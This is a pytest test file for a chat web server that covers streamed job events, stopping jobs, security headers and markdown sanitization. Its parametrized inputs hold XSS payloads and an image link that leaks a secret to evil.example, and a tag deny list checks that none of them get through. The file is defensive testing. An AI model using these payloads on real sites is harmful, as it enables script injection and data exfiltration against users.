"""The page, its jobs and their events, rendering, headers."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import httpx
import pytest

from chatwright.chat import Message
from chatwright.config import UserError
from chatwright.generate.sampling import Sampling
from chatwright.serve.jobs import Event, Failed, Job, JobStore
from chatwright.serve.markdown import render
from chatwright.serve.service import Busy, TooLong, prepare
from support.person import Person, text_of
from support.serving import DIALOGUES, MARKDOWN, Running, TinyModel, run_server
from support.waiting import wait_until


@pytest.fixture
def me(server: Running) -> Iterator[Person]:
    with Person(server.url) as person:
        yield person


def test_events_are_numbered_and_end_with_done(me: Person) -> None:
    seen = me.events(me.start("hello")[1])
    assert text_of(seen) == DIALOGUES["hello"]
    assert [event["n"] for event in seen] == sorted({event["n"] for event in seen})
    assert [event["type"] for event in seen if event["type"] != "text"] == ["begin", "done"]
    assert seen[0] == {"n": 1, "type": "begin", "model": "tiny/taught", "dropped": 0, "window": 256}
    assert seen[-1]["html"] == f"<p>{DIALOGUES['hello']}</p>\n"
    assert seen[-1]["turn"]["finish_reason"] == "stop"
    assert seen[-1]["turn"]["tokens"] > 1


def test_a_lost_follower_goes_on_where_it_was(me: Person, server: Running) -> None:
    engine = server.model.engine
    engine.allow(6)
    _, job = me.start("story")
    with me.client.stream("GET", f"/chat/jobs/{job}/events") as response:
        lines = (json.loads(line) for line in response.iter_lines() if line)
        first = next(event for event in lines if event["type"] == "text")
    wait_until(lambda: engine.allowed <= 0, "six steps")
    assert engine.active == 1, "the answer must go on without the page"
    engine.allow(float("inf"))
    rest = me.events(job, after=first["n"])
    assert first["text"] + text_of(rest) == DIALOGUES["story"]
    assert text_of(me.events(job)) == DIALOGUES["story"]  # and again from the start, after the end
    assert [event["type"] for event in me.events(job)] == [
        "begin",
        "text",
        "done",
    ]  # missed text comes at once
    assert [event["type"] for event in me.events(job, after=rest[-1]["n"] - 1)] == ["done"]


def test_stop_keeps_what_there_is(me: Person, server: Running) -> None:
    engine = server.model.engine
    engine.allow(6)
    _, job = me.start("story")
    wait_until(lambda: engine.allowed <= 0, "six steps")
    assert me.client.post(f"/chat/jobs/{job}/stop").status_code == 200
    seen = me.events(job)
    assert seen[-1]["turn"]["finish_reason"] == "cancelled"
    assert text_of(seen)
    assert DIALOGUES["story"].startswith(text_of(seen))
    assert len(text_of(seen)) < len(DIALOGUES["story"])


def test_unknown_jobs(me: Person, server: Running) -> None:
    assert me.client.get("/chat/jobs/none/events").json()["error"]["code"] == "job_not_found"
    assert me.client.post("/chat/jobs/none/stop").status_code == 404
    other_site = {"origin": "https://evil.example"}
    assert me.client.post("/chat/jobs/none/stop", headers=other_site).status_code == 403


def test_a_failing_model_ends_the_job_with_an_error(
    me: Person, server: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: Any, **__: Any) -> None:
        raise ValueError("secret detail")

    monkeypatch.setattr(server.model.model, "hidden", broken)
    event = me.events(me.start("hello")[1])[-1]
    assert event["type"] == "error"
    assert "secret" not in event["message"]


def test_headers_of_the_page(server: Running) -> None:
    page = httpx.get(f"{server.url}/")
    assert (
        httpx.get(f"{server.url}/c/any-conversation").text == page.text
    )  # what is in it, its scripts ask for
    assert "set-cookie" not in page.headers  # see owner.py
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["cache-control"] == "no-store"
    assert "tiny/taught" in page.text
    assert '<html lang="en">' in page.text
    assert "<script>" not in page.text
    assert " style=" not in page.text
    assert " onclick=" not in page.text
    script = httpx.get(f"{server.url}/static/chat.js")
    assert "javascript" in script.headers["content-type"]
    unchanged = httpx.get(f"{server.url}/static/chat.js", headers={"if-none-match": script.headers["etag"]})
    assert unchanged.status_code == 304
    assert httpx.get(f"{server.url}/static/../chat_page.py").status_code == 404
    assert httpx.get(f"{server.url}/static/%2e%2e/%2e%2e/chat_page.py").status_code == 404


def test_a_model_name_cannot_break_the_page(tiny: TinyModel) -> None:
    with run_server(tiny, name='"><script>alert(1)</script>') as server:
        assert "<script>alert" not in httpx.get(f"{server.url}/").text


def test_markdown_is_rendered_and_harmless(server: Running) -> None:
    html = httpx.post(f"{server.url}/chat/render", json={"texts": [MARKDOWN, "a\nb"]}).json()["html"]
    assert html[0] == render(MARKDOWN)
    assert "<strong>bold</strong>" in html[0]
    assert '<span class="n">x</span>' in html[0]
    assert "&lt;script&gt;" in html[0]
    assert "<script" not in html[0]
    assert "<img" not in html[0]
    assert "href" not in html[0]  # javascript: makes no link
    assert html[1].count("<br>") == 1


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "<iframe src=//evil.example>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "[x](<java\nscript:alert(1)>)",
        '```"><script>alert(1)</script>\ncode\n```',
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "<style>*{display:none}</style>",
        "<svg/onload=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ],
)
def test_nothing_active_comes_through_markdown(text: str) -> None:
    html = render(text)
    for bad in (
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<style",
        " onload=",
        " onerror=",
        'href="jav',
        'href="data',
    ):
        if bad in (" onload=", " onerror="):  # may stand in the text, but not inside a tag
            assert not [tag for tag in html.split("<")[1:] if bad in tag.partition(">")[0]]
        else:
            assert bad not in html


def test_links_open_apart_and_tell_nothing() -> None:
    html = render("[x](https://example.org)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_the_models_and_which_are_loaded(tiny: TinyModel) -> None:
    with run_server(tiny, models=["second=/nowhere"]) as server:
        assert httpx.get(f"{server.url}/chat/models").json()["models"] == [
            {"name": "tiny/taught", "loaded": True, "window": 256},
            {"name": "second", "loaded": False, "window": None},
        ]


async def eventually(condition: Callable[[], bool]) -> None:
    for _ in range(2000):
        if condition():
            return
        await asyncio.sleep(0.005)
    raise AssertionError("the condition did not come true")


class Held:
    """Work that goes on until it is let go or no longer wanted."""

    def __init__(self, jobs: JobStore) -> None:
        self.jobs, self.free = jobs, asyncio.Event()

    async def __call__(self, job: Job) -> Event:
        job.publish({"type": "text", "text": "a"})
        free, unwanted = asyncio.create_task(self.free.wait()), asyncio.create_task(self.jobs.unwanted(job))
        await asyncio.wait({free, unwanted}, return_when=asyncio.FIRST_COMPLETED)
        free.cancel()
        unwanted.cancel()
        return {"type": "done", "free": self.free.is_set(), "stopped": job.stopped}


def start(jobs: JobStore, work: Held | None = None, subject: str = "x") -> tuple[Held, Job]:
    held = work or Held(jobs)
    return held, jobs.start(held, owner="me", subject=subject)


def test_a_job_that_nobody_follows_is_unwanted() -> None:
    async def check() -> None:
        jobs = JobStore(unfollowed_seconds=0.05)
        _, job = start(jobs)
        assert jobs.running_on("x") is job
        await eventually(lambda: job.finished)
        assert job.events[-1] == {"n": 2, "type": "done", "free": False, "stopped": False}
        assert jobs.running_on("x") is None

    asyncio.run(check())


def test_a_follower_keeps_a_job_alive_and_is_kept_alive() -> None:
    async def check() -> None:
        jobs = JobStore(unfollowed_seconds=0.05, heartbeat_seconds=0.02)
        held, job = start(jobs)
        lines = []
        beats = 0
        async for line in jobs.follow(job, 0):
            if line == b"\n":
                beats += 1
                if beats == 10:  # four times as long as an unfollowed job lives
                    held.free.set()
                continue
            lines.append(json.loads(line))
        assert beats >= 10
        assert lines[-1]["free"]

    asyncio.run(check())


def test_jobs_are_bounded_in_number_and_age() -> None:
    async def check() -> None:
        jobs = JobStore(max_jobs=2, keep_seconds=0.1)
        held, first = start(jobs)
        held.free.set()
        await eventually(lambda: first.finished)
        (a, second), (b, third) = start(jobs), start(jobs)  # the finished one makes room
        assert jobs.get(first.id, "me") is None
        assert jobs.get(second.id, "me") is second
        assert jobs.get(second.id, "you") is None
        with pytest.raises(Busy):
            start(jobs)
        a.free.set()
        b.free.set()
        await eventually(lambda: jobs.get(second.id, "me") is None and jobs.get(third.id, "me") is None)

    asyncio.run(check())


def test_closing_waits_for_what_is_to_be_kept() -> None:
    async def check() -> None:
        jobs = JobStore()
        _, job = start(jobs)
        await jobs.close()
        assert job.events[-1]["type"] == "done"
        assert not job.events[-1]["stopped"]

    asyncio.run(check())


def test_work_that_fails_says_so_once() -> None:
    async def fails(error: Exception) -> Event:
        async def work(_: Job) -> Event:
            raise error

        jobs = JobStore()
        job = jobs.start(work, owner="me", subject="x")
        await jobs.close()
        (event,) = job.events
        return event

    async def check() -> None:
        assert (await fails(UserError("too long")))["message"] == "too long"
        assert (await fails(Failed("kept a part", {"turn": 1})))["turn"] == 1
        assert "secret" not in (await fails(ValueError("secret")))["message"]

    asyncio.run(check())


def test_missed_tokens_come_together() -> None:
    async def check() -> None:
        job = Job("me", "x", {}, lambda: 0.0)
        for letter in "abc":
            job.publish({"type": "text", "text": letter, "tokens": [{"text": letter}]})
        (event,) = job.since(1)
        assert event == {"n": 3, "type": "text", "text": "bc", "tokens": [{"text": "b"}, {"text": "c"}]}
        assert len(job.since(0)[0]["tokens"]) == 3
        assert len(job.events[0]["tokens"]) == 1  # the events themselves stay as they are

    asyncio.run(check())


def story() -> tuple[list[Message], Sampling]:
    return [Message(role="user", content="story")], Sampling(temperature=0.0, max_new_tokens=100)


def test_seeds_of_several_answers_differ(tiny: TinyModel) -> None:
    messages, sampling = story()
    prepared = prepare(tiny, messages, replace(sampling, seed=3), answers=2)
    assert [request.sampling.seed for request in prepared.requests] == [3, 4]


def test_an_answer_that_was_begun_goes_on(tiny: TinyModel) -> None:
    messages, sampling = story()
    begun = "Once upon a time there was a small model."
    prepared = prepare(tiny, messages, sampling, begun=begun)
    (completion,) = tiny.engine.generate(prepared.requests)
    assert begun + completion.text == DIALOGUES["story"]
    with pytest.raises(TooLong, match="cannot go on"):
        prepare(tiny, messages, sampling, begun="many words " * 100)
